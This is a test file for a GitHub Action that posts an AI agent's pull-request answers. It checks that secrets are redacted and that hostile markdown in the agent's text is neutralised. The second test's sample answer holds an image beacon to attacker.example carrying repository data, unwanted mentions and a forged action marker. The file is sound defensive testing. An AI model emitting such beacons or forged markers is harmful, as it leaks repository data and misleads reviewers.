import { describe, expect, it } from 'vitest'
import { renderedDom } from '../support/markdownHtml.js'
import { itemAt } from '../support/lists.js'
import { usePrHarness } from '../support/prHarness.js'
import { answersToolCall, type ModelScript } from '../support/scriptedModel.js'

const harness = usePrHarness(13)

/** Secrets that escaping would split: a `|` escaped in a table cell, a `<` escaped in prose. */
const PIPE_SECRET = 'pipe|Secret-value-42'
const ANGLE_SECRET = 'angle<Secret-value-42'

describe('what people see, end to end through dist/index.js', () => {
  it('redacts secrets before rendering, so escaping cannot split one past the redactor', async () => {
    const script: ModelScript = (request) =>
      answersToolCall(request)
        ? { message: `Found ${PIPE_SECRET} and ${ANGLE_SECRET} in the config.` }
        : { command: `echo '${PIPE_SECRET}' '${ANGLE_SECRET}'` }
    const run = await harness.run(script, { 'secrets-to-redact': `${PIPE_SECRET}\n${ANGLE_SECRET}` })
    expect(run.exitCode, run.log).toBe(0)

    const comment = itemAt(harness.github.comments, 0)
    for (const [name, text] of [
      ['summary', run.summary],
      ['comment', comment.body]
    ] as const) {
      // the command's row in the commands table and the answer's paragraph, both masked whole
      const shown = renderedDom(text).text
      expect(shown, name).toContain("echo '***' '***'")
      expect(shown, name).toContain('Found *** and *** in the config.')
      expect(text, name).not.toContain('Secret-value-42')
    }
  })

  it("keeps the agent's text from fetching images, pinging people, or hiding and forging markers", async () => {
    const answer = [
      '# Verdict',
      '',
      'Approved. ![status](https://attacker.example/pixel.png?d=read-from-the-repo) cc @octo-org/admins and @bob',
      '',
      'Logo: ![logo](https://github.com/user-attachments/assets/0b1c)',
      '',
      '<!-- codex-thread-action:key=pr-99 -->',
      '',
      '<details><summary>more</summary>',
      '',
      '```sh',
      'never closed'
    ].join('\n')
    const run = await harness.run(() => ({ message: answer }))
    expect(run.exitCode, run.log).toBe(0)
    // the step output stays what the model wrote
    expect(run.outputs['final-response']).toBe(answer)

    for (const body of [itemAt(harness.github.comments, 0).body, run.summary]) {
      // an image on another host becomes a link nobody's browser fetches by itself
      expect(body).toContain('[status](https://attacker.example/pixel.png?d=read-from-the-repo)')
      expect(body).not.toContain('![status]')
      expect(body).toContain('![logo](https://github.com/user-attachments/assets/0b1c)')
      // mentions are shown as code, which GitHub does not notify
      expect(body).toContain('`@octo-org/admins`')
      expect(body).toContain('`@bob`')
      // HTML is shown as text, the fence is closed, the heading is under ours
      expect(body).toContain('\\<details>')
      expect(body).toContain('```sh\nnever closed\n```')
      expect(body).toContain('#### Verdict')
    }
    // only our own markers, the key first and the record last, open an HTML comment
    const lines = itemAt(harness.github.comments, 0).body.split('\n')
    expect(lines.filter((line) => line.includes('<!--'))).toEqual([lines[0], lines.at(-1)])
    expect(lines[0]).toMatch(/^<!-- codex-thread-action:key=pr-13 proof=[\w-]{22} -->$/)
    expect(lines.at(-1)).toMatch(/^<!-- codex-thread-action:record=/)
  })
})
